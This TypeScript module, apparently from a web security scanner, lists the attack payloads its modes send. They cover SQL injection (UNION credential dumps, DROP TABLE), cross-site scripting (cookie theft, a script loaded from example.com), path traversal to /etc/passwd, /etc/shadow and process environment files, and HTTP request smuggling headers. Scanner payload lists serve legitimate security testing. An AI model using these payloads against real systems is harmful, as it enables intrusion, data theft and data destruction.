/** What the attack modes send: plain examples of each class, as scanners try first. Each is the value of a parameter. */
export const SQLI: readonly string[] = [
  "1' OR '1'='1' -- ",
  "1 UNION SELECT username, password FROM users--",
  "1; DROP TABLE users--",
  "1' AND SLEEP(5)-- ",
  "admin'--",
  "1' AND EXTRACTVALUE(1, CONCAT(0x7e, VERSION()))-- ",
  "1) OR (SELECT COUNT(*) FROM information_schema.tables) > 0--",
  "1'; WAITFOR DELAY '0:0:5'--",
];

export const XSS: readonly string[] = [
  "<script>alert(document.cookie)</script>",
  '"><img src=x onerror=alert(1)>',
  "<svg/onload=alert(1)>",
  "javascript:alert(document.domain)//",
  '<iframe src="javascript:alert(1)"></iframe>',
  "<body onpageshow=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "'-alert(1)-'<script src=//example.com/x.js></script>",
];

export const TRAVERSAL: readonly string[] = [
  "../../../../etc/passwd",
  "..%2f..%2f..%2f..%2fetc%2fpasswd",
  "....//....//....//etc/passwd",
  "..\\..\\..\\windows\\win.ini",
  "/var/www/../../etc/shadow",
  "file:///etc/passwd",
  "../../../../proc/self/environ",
  "%252e%252e%252f%252e%252e%252fetc%252fpasswd",
];

const HIDDEN = "GET /hidden HTTP/1.1\r\nHost: HOST\r\n\r\n";

/**
 * Requests that two parsers would end at different places, so that what follows is a request of its own for one of them
 * (RFC 9112, 11.2; CWE-444). `HOST` stands for the name of the site.
 */
export const SMUGGLING: readonly string[] = [
  `Content-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${HIDDEN}`,
  `Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n2a\r\n${HIDDEN}\r\n0\r\n\r\n`,
  `Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n${HIDDEN}`,
  `Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n${HIDDEN}`,
  `Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n${HIDDEN}`,
  `Content-Length: 0\r\nContent-Length: 42\r\n\r\n${HIDDEN}`,
  `Content-Length: +0\r\n\r\n${HIDDEN}`,
  `X: y\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${HIDDEN}`,
  `X: y\r\n Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n${HIDDEN}`,
  `Transfer-Encoding:\x0bchunked\r\n\r\n0\r\n\r\n${HIDDEN}`,
];
